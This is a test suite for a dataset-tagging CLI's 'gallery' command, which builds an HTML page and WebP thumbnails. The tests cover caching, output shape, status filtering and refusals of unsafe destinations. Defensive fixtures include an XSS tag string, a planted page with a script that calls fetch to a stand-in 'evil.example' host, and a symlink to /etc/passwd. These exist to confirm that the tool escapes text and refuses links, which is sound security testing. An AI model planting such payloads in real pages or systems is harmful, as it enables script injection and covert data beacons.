/**
 * `lora gallery [DEST]` (issue 17): the page and its WebP thumbnails (longer side --thumb-size, EXIF orientation
 * applied, cached by image sha256 and size: a second run makes only those of new or changed images), the --json
 * shape, --status, and where it may write (README "lora gallery"). The page in a browser:
 * test/e2e/gallery-browser.test.ts. In-process (test/in-process.ts) on real fixture images; needs `npm run build`.
 */
import * as fsp from 'node:fs/promises'
import {join, relative} from 'node:path'
import sharp from 'sharp'
import {loraIn, loraInOk} from '../in-process.js'
import {copyFixtures, makeTemp, removeTemp, sha256} from '../helpers.js'

const IMAGES = ['plasma-Autumn-screenshot.jpg', 'skimage-horse.png', 'plasma-Kite-screenshot.jpg']

let tmp: string

beforeEach(async () => {
  tmp = await fsp.realpath(await makeTemp('lora-gallery-'))
})
afterEach(() => removeTemp(tmp))

/** A dataset of three fixture photos (img_0001.jpg, img_0002.jpg, img_0003.png): 1 tagged (with hostile text), 2 skipped, 3 pending. */
async function dataset(): Promise<string> {
  const root = join(tmp, 'ds')
  await copyFixtures(root, IMAGES)
  await loraInOk(['init', '.', '--trigger', 'ohwx'], {cwd: root})
  await loraInOk(['tag', '1', '--add', 'red hair, <script>alert("x")</script>'], {cwd: root})
  await loraInOk(['tag', '2', '--skip'], {cwd: root})
  return root
}

const json = async (args: string[], cwd: string) => JSON.parse((await loraInOk([...args, '--json'], {cwd})).stdout)

/** The data the page embeds (its `<script type="application/json">`), as far as these tests read it. */
interface PageData {
  images: {id: string; src: string; thumb: string | null; status: string; reason: string | null}[]
  groups?: {kind: string; ids: string[]; reason: string}[]
  findings?: {id: string; kind: string; reason: string}[]
}

/** The data the page embeds (its `<script type="application/json">`). */
async function pageData(page: string): Promise<PageData> {
  const html = await fsp.readFile(page, 'utf8')
  const m = /<script type="application\/json" id="gallery-data">([^<]*)<\/script>/u.exec(html)
  if (!m) throw new Error('no data in the page')
  return JSON.parse(m[1]) as PageData
}

it('--json: the documented shape; thumbnails are WebP of the longer side, named by sha256 and size', async () => {
  const root = await dataset()
  const report = await json(['gallery'], root)
  const dir = join(root, '.lora-tagger', 'gallery')
  expect(report).toEqual({
    page: join(dir, 'index.html'),
    dir,
    images: 3,
    thumbSize: 256,
    thumbnails: {made: 3, cached: 0, removed: 0},
    problems: [],
  })
  expect(Object.keys(report).join(' ')).toBe('page dir images thumbSize thumbnails problems')
  const thumb = join(dir, 'thumbs', `${await sha256(join(root, 'output', 'img_0001.jpg'))}-256.webp`)
  const meta = await sharp(thumb).metadata()
  expect(meta.format).toBe('webp')
  expect(Math.max(meta.width, meta.height)).toBe(256)
  // The page points at the dataset's own file for the large view, and at the thumbnail for the grid.
  const data = await pageData(report.page)
  expect(data.images.map((i) => i.src)).toEqual([
    '../../output/img_0001.jpg',
    '../../output/img_0002.jpg',
    '../../output/img_0003.png',
  ])
  expect(data.images[0].thumb).toBe(`thumbs/${relative(join(dir, 'thumbs'), thumb)}`)
  // The human form: the page on stdout, what was made on stderr.
  const human = await loraInOk(['gallery'], {cwd: root})
  expect(human.stdout).toBe(`${join(dir, 'index.html')}\n`)
  expect(human.stderr).toBe('Gallery of 3 images: 0 thumbnails made, 3 already there.\n')
})

it('one image: "Gallery of 1 image: 1 thumbnail made" (singular), then "0 thumbnails made, 1 already there"', async () => {
  const root = join(tmp, 'one')
  await copyFixtures(root, [IMAGES[1]])
  await loraInOk(['init', '.'], {cwd: root})
  expect((await loraInOk(['gallery'], {cwd: root})).stderr).toBe(
    'Gallery of 1 image: 1 thumbnail made, 0 already there.\n',
  )
  expect((await loraInOk(['gallery'], {cwd: root})).stderr).toBe(
    'Gallery of 1 image: 0 thumbnails made, 1 already there.\n',
  )
})

it('a second run makes only the thumbnails of new or changed images; another size replaces the old ones', async () => {
  const root = await dataset()
  await json(['gallery'], root)
  expect((await json(['gallery'], root)).thumbnails).toEqual({made: 0, cached: 3, removed: 0})
  // An image changed by hand (another file in its place): its thumbnail is made again, the old one removed.
  await fsp.copyFile(join(root, 'output', 'img_0002.jpg'), join(root, 'output', 'img_0001.jpg'))
  // A new image.
  await copyFixtures(root, ['skimage-page.png'])
  await loraInOk(['init', '.'], {cwd: root})
  const again = await json(['gallery'], root)
  expect(again.images).toBe(4)
  // img_0001 now holds img_0002's bytes: cached; img_0004 new: made; img_0001's old thumbnail: removed.
  expect(again.thumbnails).toEqual({made: 1, cached: 3, removed: 1})
  const resized = await json(['gallery', '--thumb-size', '64'], root)
  // img_0001 and img_0002 hold the same bytes now: one thumbnail for both.
  expect(resized.thumbnails).toEqual({made: 3, cached: 1, removed: 3})
  const names = await fsp.readdir(join(root, '.lora-tagger', 'gallery', 'thumbs'))
  expect(names.every((n) => n.endsWith('-64.webp'))).toBe(true)
  expect(names).toHaveLength(3)
})

it('an empty thumbnail or page (what a power cut can leave: they are written without fsync) is made again', async () => {
  const root = await dataset()
  const report = await json(['gallery'], root)
  const thumbs = join(report.dir, 'thumbs')
  const [first] = await fsp.readdir(thumbs)
  await fsp.truncate(join(thumbs, first))
  await fsp.truncate(report.page)
  expect((await json(['gallery'], root)).thumbnails).toEqual({made: 1, cached: 2, removed: 0})
  expect((await fsp.stat(join(thumbs, first))).size).toBeGreaterThan(0)
  expect((await pageData(report.page)).images).toHaveLength(3)
})

it('a page or thumbnails lora did not write here (a gallery folder shipped in a dataset) are made again', async () => {
  const root = await dataset()
  const first = await json(['gallery'], root)
  const thumbs = join(first.dir, 'thumbs')
  const hostile = '<!doctype html><script>fetch("https://evil.example/?opened")</script>'
  const fake = await sharp({create: {width: 8, height: 8, channels: 3, background: '#f0f'}})
    .webp()
    .toBuffer()
  // A stranger's dataset that ships its gallery folder: made for this very path (so its gallery.json, copied here,
  // holds the digest lora computes), its page replaced by the stranger's and a thumbnail by another picture.
  await fsp.cp(first.dir, join(tmp, 'shipped'), {recursive: true})
  await fsp.rm(first.dir, {recursive: true})
  await fsp.rename(join(tmp, 'shipped'), first.dir)
  await fsp.writeFile(first.page, hostile)
  const [name] = await fsp.readdir(thumbs)
  await fsp.writeFile(join(thumbs, name), fake)
  expect((await json(['gallery'], root)).thumbnails).toEqual({made: 3, cached: 0, removed: 0})
  expect(await fsp.readFile(first.page, 'utf8')).not.toContain('evil.example')
  expect((await pageData(first.page)).images).toHaveLength(3)
  expect(Buffer.compare(await fsp.readFile(join(thumbs, name)), fake)).not.toBe(0)
  expect((await json(['gallery'], root)).thumbnails).toEqual({made: 0, cached: 3, removed: 0})

  // A thumbnail that arrives later beside lora's own (a `git pull` bringing an image and a file in thumbs/ for it).
  await copyFixtures(root, ['skimage-page.png'])
  await loraInOk(['init', '.'], {cwd: root})
  const state = JSON.parse(await fsp.readFile(join(root, '.lora-tagger', 'state.json'), 'utf8')) as {
    images: {sha256: string}[]
  }
  const planted = join(thumbs, `${state.images[3].sha256}-256.webp`)
  await new Promise((done) => setTimeout(done, 20))
  await fsp.writeFile(planted, fake)
  expect((await json(['gallery'], root)).thumbnails).toEqual({made: 1, cached: 3, removed: 0})
  expect(Buffer.compare(await fsp.readFile(planted), fake)).not.toBe(0)
})

it('the page is written again when what it shows changed, and left alone when nothing did', async () => {
  const root = await dataset()
  const {page} = await json(['gallery'], root)
  const before = await fsp.stat(page)
  await json(['gallery'], root)
  expect((await fsp.stat(page)).ino).toBe(before.ino)
  // A tag edit makes no thumbnail, but the page shows it.
  await loraInOk(['tag', '3', '--add', 'blue sky'], {cwd: root})
  await json(['gallery'], root)
  expect((await fsp.stat(page)).ino).not.toBe(before.ino)
  expect(await fsp.readFile(page, 'utf8')).toContain('"blue sky"')
  // So does a page removed by hand, or another --status.
  await fsp.rm(page)
  await json(['gallery'], root)
  expect((await pageData(page)).images).toHaveLength(3)
  await json(['gallery', '--status', 'tagged'], root)
  expect((await pageData(page)).images).toHaveLength(2)
})

it('applies the EXIF orientation to the thumbnail', async () => {
  const root = join(tmp, 'ds')
  await fsp.mkdir(root)
  // A real photo saved 400 × 250 with orientation 6 (rotate 90° clockwise to display): shown 250 × 400.
  await sharp(join(process.cwd(), 'test', 'fixtures', 'images', 'plasma-Autumn-screenshot.jpg'))
    .withMetadata({orientation: 6})
    .toFile(join(root, 'rotated.jpg'))
  await loraInOk(['init', '.'], {cwd: root})
  const report = await json(['gallery', '--thumb-size', '100'], root)
  const [name] = await fsp.readdir(join(report.dir, 'thumbs'))
  const meta = await sharp(join(report.dir, 'thumbs', name)).metadata()
  expect([meta.width, meta.height]).toEqual([63, 100])
})

it('--status puts only those images on the page', async () => {
  const root = await dataset()
  const report = await json(['gallery', '--status', 'skipped', '--status', 'pending'], root)
  expect(report.images).toBe(2)
  expect((await pageData(report.page)).images.map((i) => i.id)).toEqual(['img_0002', 'img_0003'])
  const bad = await loraIn(['gallery', '--status', 'done'], {cwd: root})
  expect(bad.code).toBe(2)
  const small = await loraIn(['gallery', '--thumb-size', '8'], {cwd: root})
  expect(small.code).toBe(2)
})

it("with a curation analysis: its duplicate groups and findings on the page, and a skip's reason from curate --apply", async () => {
  const root = join(tmp, 'cur')
  await copyFixtures(root, ['plasma-Autumn-screenshot.jpg', 'skimage-horse.png'])
  // A near-duplicate of the first photo: the same picture at 60 % of its width (sorted last, so img_0003).
  await sharp(join(root, 'plasma-Autumn-screenshot.jpg'))
    .resize({width: 240})
    .jpeg({quality: 70})
    .toFile(join(root, 'zz-autumn-small.jpg'))
  await loraInOk(['init', '.'], {cwd: root})
  const before = await pageData((await json(['gallery'], root)).page)
  expect(before.groups).toBeUndefined()
  await loraInOk(['curate'], {cwd: root})
  const analysed = await pageData((await json(['gallery'], root)).page)
  expect(analysed.groups).toEqual([
    {
      kind: 'near-duplicates',
      ids: ['img_0001', 'img_0003'],
      reason: expect.stringMatching(/^near-duplicates; keep img_0001; pHash distance to it: img_0003 \d+$/u),
    },
  ])
  const curate = JSON.parse((await loraInOk(['curate', '--json'], {cwd: root})).stdout) as {
    findings: {rule: string; id: string; message: string}[]
  }
  expect(analysed.findings).toEqual(curate.findings.map((f) => ({id: f.id, kind: f.rule, reason: f.message})))
  await loraInOk(['curate', '--apply'], {cwd: root})
  const applied = await pageData((await json(['gallery'], root)).page)
  const skipped = applied.images.find((i) => i.id === 'img_0003')!
  expect(skipped.status).toBe('skipped')
  expect(skipped.reason).toMatch(/^near-duplicate of img_0001 \(distance \d+\)$/u)
  expect(applied.groups).toEqual([])
})

it('dataset text is only in the page escaped: no tag can close the data element', async () => {
  const root = await dataset()
  const report = await json(['gallery'], root)
  const html = await fsp.readFile(report.page, 'utf8')
  expect(html).not.toContain('<script>alert')
  expect(html).toContain('\\u003cscript\\u003ealert(\\"x\\")\\u003c/script\\u003e')
  expect(html.match(/<script/gu)).toHaveLength(2)
})

it('an image whose file is gone or a link is shown without a thumbnail, and says why', async () => {
  const root = await dataset()
  await fsp.rm(join(root, 'output', 'img_0002.jpg'))
  await fsp.rm(join(root, 'output', 'img_0003.png'))
  await fsp.symlink('/etc/passwd', join(root, 'output', 'img_0003.png'))
  const report = await json(['gallery'], root)
  expect(report.problems).toEqual([
    {id: 'img_0002', reason: 'its file is gone'},
    {id: 'img_0003', reason: 'its file is a symbolic link now, not the image'},
  ])
  expect(report.thumbnails.made).toBe(1)
  expect((await pageData(report.page)).images.map((i) => i.thumb === null)).toEqual([false, true, true])
})

/** A real 24-bit BMP (BITMAPINFOHEADER, bottom-up rows padded to 4 bytes) of `width` × `height` pixels: a gradient. */
function bmp(width: number, height: number): Buffer {
  const row = Math.ceil((width * 3) / 4) * 4
  const file = Buffer.alloc(54 + row * height)
  file.write('BM', 0, 'latin1')
  file.writeUInt32LE(file.length, 2)
  file.writeUInt32LE(54, 10)
  file.writeUInt32LE(40, 14)
  file.writeInt32LE(width, 18)
  file.writeInt32LE(height, 22)
  file.writeUInt16LE(1, 26)
  file.writeUInt16LE(24, 28)
  file.writeUInt32LE(row * height, 34)
  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) file.set([x * 8, y * 8, 128], 54 + y * row + x * 3)
  return file
}

it('an image sharp cannot decode (BMP) is shown without a thumbnail: the page shows the file itself', async () => {
  const root = join(tmp, 'ds')
  await copyFixtures(root, [IMAGES[0]])
  await fsp.writeFile(join(root, 'zz.bmp'), bmp(20, 10))
  await loraInOk(['init', '.'], {cwd: root})
  const report = await json(['gallery'], root)
  expect(report.thumbnails.made).toBe(1)
  expect(report.problems).toEqual([{id: 'img_0002', reason: expect.stringMatching(/^no thumbnail: /u)}])
  const data = await pageData(report.page)
  expect(data.images[1]).toMatchObject({src: '../../output/img_0002.bmp', thumb: null})
})

describe('DEST', () => {
  it('outside the dataset: written there, the images linked relative to it', async () => {
    const root = await dataset()
    const report = await json(['gallery', '../pages/ds'], root)
    expect(report.page).toBe(join(tmp, 'pages', 'ds', 'index.html'))
    // DEST after a --status is DEST, not a second status.
    expect((await json(['gallery', '--status', 'tagged', '../pages/tagged'], root)).images).toBe(1)
    expect((await pageData(report.page)).images[0].src).toBe('../../ds/output/img_0001.jpg')
    // Run again into it: it is a lora gallery now.
    expect((await json(['gallery', '../pages/ds'], root)).thumbnails.cached).toBe(3)
  })

  it.each([
    ['the output folder', 'output', "the dataset's output folder"],
    ['a folder beside the originals', 'gallery', 'inside the dataset folder'],
    ['.lora-tagger/ itself', '.lora-tagger', '.lora-tagger/ folder'],
    ['the dataset folder', '.', 'is the dataset folder'],
  ])('inside the dataset (%s) is refused, exit 2, nothing written', async (_what, dest, says) => {
    const root = await dataset()
    const before = await fsp.readdir(root, {recursive: true})
    const result = await loraIn(['gallery', dest], {cwd: root})
    expect(result.code).toBe(2)
    expect(result.stderr).toContain(says)
    expect(await fsp.readdir(root, {recursive: true})).toEqual(before)
  })

  it('a .lora-tagger/gallery that is a link (a dataset from a stranger) is refused, never followed', async () => {
    const root = await dataset()
    await fsp.mkdir(join(tmp, 'victim'))
    await fsp.symlink(join(tmp, 'victim'), join(root, '.lora-tagger', 'gallery'))
    const result = await loraIn(['gallery'], {cwd: root})
    expect(result.code).toBe(1)
    expect(result.stderr).toContain('gallery is a symbolic link, not a folder')
    expect(await fsp.readdir(join(tmp, 'victim'))).toEqual([])
  })

  it('a DEST through a linked .lora-tagger/gallery (into the output folder) is refused too, nothing written', async () => {
    const root = await dataset()
    await fsp.mkdir(join(root, 'output', 'g'))
    await fsp.symlink('../output/g', join(root, '.lora-tagger', 'gallery'))
    for (const dest of ['.lora-tagger/gallery', 'output/g']) {
      const result = await loraIn(['gallery', dest], {cwd: root})
      expect([dest, result.code]).toEqual([dest, 1])
      expect(result.stderr).toContain('gallery is a symbolic link, not a folder')
    }
    expect(await fsp.readdir(join(root, 'output', 'g'))).toEqual([])
  })

  it('a link leading into the output folder is refused as the output folder', async () => {
    const root = await dataset()
    await fsp.symlink(join(root, 'output'), join(tmp, 'link'))
    const result = await loraIn(['gallery', join(tmp, 'link')], {cwd: root})
    expect(result.code).toBe(2)
    expect(result.stderr).toContain(`(it resolves to ${join(root, 'output')})`)
  })

  it('a folder holding other files is refused (exit 1); a thumbs/ link is never written through', async () => {
    const root = await dataset()
    await fsp.mkdir(join(tmp, 'mine'))
    await fsp.writeFile(join(tmp, 'mine', 'notes.txt'), 'mine')
    const full = await loraIn(['gallery', join(tmp, 'mine')], {cwd: root})
    expect(full.code).toBe(1)
    expect(full.stderr).toContain('holds files and is not a lora gallery (no gallery.json)')
    expect(await fsp.readdir(join(tmp, 'mine'))).toEqual(['notes.txt'])
    // An earlier gallery whose thumbs/ was replaced by a link elsewhere.
    await json(['gallery', '../g'], root)
    await fsp.rm(join(tmp, 'g', 'thumbs'), {recursive: true})
    await fsp.mkdir(join(tmp, 'elsewhere'))
    await fsp.symlink(join(tmp, 'elsewhere'), join(tmp, 'g', 'thumbs'))
    const linked = await loraIn(['gallery', '../g'], {cwd: root})
    expect(linked.code).toBe(1)
    expect(linked.stderr).toContain('is a symbolic link, not a folder')
    expect(await fsp.readdir(join(tmp, 'elsewhere'))).toEqual([])
  })
})
